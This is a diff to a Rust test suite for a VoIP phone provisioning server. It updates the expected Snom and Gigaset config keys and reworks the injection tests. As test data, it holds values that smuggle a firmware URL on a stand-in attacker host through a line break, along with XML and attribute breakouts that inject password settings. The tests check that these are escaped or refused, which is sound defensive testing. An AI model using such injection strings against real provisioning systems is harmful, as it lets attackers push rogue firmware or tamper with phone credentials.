@@ -112,10 +112,10 @@ async fn snom_gets_its_model_and_device_settings() {
             r#"<user_host idx="1" perm="R">sales.cloud.example</user_host>"#,
             r#"<user_outbound idx="1" perm="R">sales.cloud.example:5061;transport=tls</user_outbound>"#,
             r#"<user_expiry idx="1" perm="R">3600</user_expiry>"#,
-            r#"<keepalive_interval perm="R">30</keepalive_interval>"#,
+            r#"<keepalive_interval idx="1" perm="R">30</keepalive_interval>"#,
             r#"<ntp_server perm="R">pool.ntp.org</ntp_server>"#,
             r#"<timezone perm="R">FRA+1</timezone>"#,
-            r#"<language perm="R">Français</language>"#,
+            r#"<language perm="R">Francais</language>"#,
             r#"<settings_refresh_timer perm="R">86400</settings_refresh_timer>"#,
         ] {
             assert!(
@@ -171,14 +171,20 @@ async fn gigaset_n510_gets_its_provider_frame_in_latin1() {
     let text = f.text();
     assert!(text.starts_with(r#"<?xml version="1.0" encoding="ISO-8859-1"?>"#));
     assert!(text.contains(&format!(r#"<MAC_ADDRESS value="{N510_MAC}"/>"#)));
+    // Line 1's keys carry no suffix on an N510.
     assert!(text.contains(
-        r#"ID="BS_IP_Data1.aucS_SIP_SERVER_1" class="symb_item" value='"support.cloud.example"'"#
+        r#"ID="BS_IP_Data1.aucS_SIP_SERVER" class="symb_item" value='"support.cloud.example"'"#
     ));
+    assert!(!text.contains("aucS_SIP_SERVER_1"), "{text}");
     assert!(
         text.contains(
-            r#"ID="BS_IP_Data1.uiI_RE_REGISTRATION_TIMER_1" class="symb_item" value="0xe10""#
+            r#"ID="BS_IP_Data1.uiI_RE_REGISTRATION_TIMER" class="symb_item" value="0xe10""#
         ),
         "3600 s in hex"
+    );
+    assert!(
+        !text.contains("aucS_DATA_SERVER"),
+        "the base keeps Gigaset's data server"
     );
     assert!(
         text.contains(r#"ID="BS_IP_Data1.ucI_HTTPLANGUAGE" class="symb_item" value="0x2""#),
@@ -295,31 +301,19 @@ async fn other_methods_are_refused() {
 
 #[tokio::test]
 async fn values_cannot_inject_settings() {
+    // Markup in values the vendors can carry is escaped for each format.
     let doc = r#"{
       "tenants": [{"name": "evil", "sip_server": "pbx.example", "phone_auth": "mac",
-                   "vendor_keys": {"yealink": {"features.dnd.enable": "1\nstatic.firmware.url = https://attacker.example/x.rom"},
-                                   "snom": {"dnd_mode": "off</dnd_mode><user_pass idx=\"1\" perm=\"R\">stolen</user_pass><x>"},
+                   "vendor_keys": {"snom": {"dnd_mode": "off</dnd_mode><user_pass idx=\"1\" perm=\"R\">stolen</user_pass><x>"},
                                    "gigaset": {"Telephony.0.CT_ByOnHook": "1\"/><param name=\"SipAccount.00001.AuthPassword\" value=\"stolen"}}}],
       "devices": [
-        {"mac": "805ec0000042", "tenant": "evil",
-         "lines": [{"user": "1001", "password": "p", "display_name": "Bob</user_realname><user_pass idx=\"1\">x</user_pass>"}]},
         {"mac": "000413000042", "tenant": "evil",
          "lines": [{"user": "1001", "password": "p", "display_name": "Bob</user_realname><user_pass idx=\"1\">x</user_pass>"}]},
         {"mac": "7c2f80000042", "tenant": "evil", "claim_code": "ZZ99",
-         "lines": [{"user": "1001", "password": "p", "display_name": "a\" b='c' <d>"}]}
+         "lines": [{"user": "1001", "password": "p", "display_name": "a b='c' <d>"}]}
       ]
     }"#;
     let server = TestServer::with_import(doc).await;
-
-    let y = server.phone(None).get("/805ec0000042.cfg").await.text();
-    assert!(
-        !y.lines().any(|l| l.starts_with("static.firmware.url")),
-        "line break injected a key:\n{y}"
-    );
-    assert!(
-        y.contains("features.dnd.enable = 1 static.firmware.url"),
-        "{y}"
-    );
 
     let s = server.phone(None).get("/000413000042.xml").await.text();
     assert!(!s.contains("<user_pass idx=\"1\">x"), "{s}");
@@ -335,7 +329,42 @@ async fn values_cannot_inject_settings() {
         "{g}"
     );
     assert!(g.contains("value=\"1&quot;/&gt;&lt;param"), "{g}");
-    assert!(g.contains("a&quot; b=&apos;c&apos; &lt;d&gt;"), "{g}");
+    assert!(g.contains("a b=&apos;c&apos; &lt;d&gt;"), "{g}");
+}
+
+#[tokio::test]
+async fn values_a_format_cannot_carry_are_refused_when_saved() {
+    // A line break would end a key=value setting; a double quote ends an N510 string.
+    let tmp = tempfile::tempdir().unwrap();
+    let report = import(
+        tmp.path(),
+        r#"{
+      "tenants": [{"name": "evil", "sip_server": "pbx.example",
+                   "vendor_keys": {"yealink": {"features.dnd.enable": "1\nstatic.firmware.url = https://attacker.example/x.rom"}}},
+                  {"name": "fine", "sip_server": "pbx.example"}],
+      "devices": [
+        {"mac": "7c2f80000042", "tenant": "fine", "claim_code": "ZZ99",
+         "lines": [{"user": "1001", "password": "pa\"ss"}]},
+        {"mac": "7c2f80000043", "tenant": "fine", "claim_code": "ZZ99",
+         "lines": [{"user": "1001", "password": "€uro"}]}
+      ]
+    }"#,
+    )
+    .await;
+    let refused: Vec<_> = report
+        .tenants
+        .iter()
+        .chain(&report.devices)
+        .filter(|r| r.status == "refused")
+        .map(|r| (r.key.as_str(), r.code, r.reason.clone().unwrap_or_default()))
+        .collect();
+    assert_eq!(refused.len(), 3, "{refused:?}");
+    assert!(refused[0].2.contains("features.dnd.enable"), "{refused:?}");
+    for (_, code, reason) in &refused[1..] {
+        assert_eq!(*code, Some("invalid_setting"));
+        assert!(reason.contains("lines[0].password"), "{reason}");
+        assert!(reason.contains("gigaset N510/N720"), "{reason}");
+    }
 }
 
 #[tokio::test]
